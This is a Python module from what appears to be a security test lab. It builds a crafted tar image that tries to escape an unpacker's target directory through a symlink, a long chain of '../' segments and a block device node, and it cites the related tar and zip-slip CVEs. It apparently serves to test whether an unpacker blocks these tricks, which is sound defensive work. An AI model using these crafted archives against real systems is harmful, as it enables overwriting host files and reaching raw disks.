"""Attacks by an image: what is attacked is the tool of the host that unpacks it."""

import io
import os
import tarfile

from scratchlab.attacks.attack import Evidence, attack

DEEP = 64


@attack(
    "tar(5)", "openat2(2)", stopped_by=("unpack",), side="outside",
    history="CVE-2019-14271, CVE-2018-15664 (docker cp by links), CVE-2007-4559 (Python's tarfile), \"zip slip\" since 1991",
)  # fmt: skip
def image_tar(path: str, outside: str, disk: int) -> Evidence:
    """Make an image whose entries lead out: by a link that came before, by `..`, by a device node.  tar(5)"""
    with tarfile.open(path, "w") as image:
        image.addfile(_entry("exit", tarfile.SYMTYPE, linkname=outside))
        _add_file(image, "exit/by-link")
        _add_file(image, "../" * DEEP + outside.lstrip("/") + "/by-dots")
        image.addfile(_entry("disk", tarfile.BLKTYPE, devmajor=os.major(disk), devminor=os.minor(disk)))
    return Evidence(True, "an image of four entries: a link that leads out, a file behind it, a file behind ../.., a disk")


def _entry(name: str, kind: bytes, **fields: object) -> tarfile.TarInfo:
    entry = tarfile.TarInfo(name)
    entry.type = kind
    for field, value in fields.items():
        setattr(entry, field, value)
    return entry


def _add_file(image: tarfile.TarFile, name: str) -> None:
    content = b"was here"
    entry = tarfile.TarInfo(name)
    entry.size = len(content)
    image.addfile(entry, io.BytesIO(content))
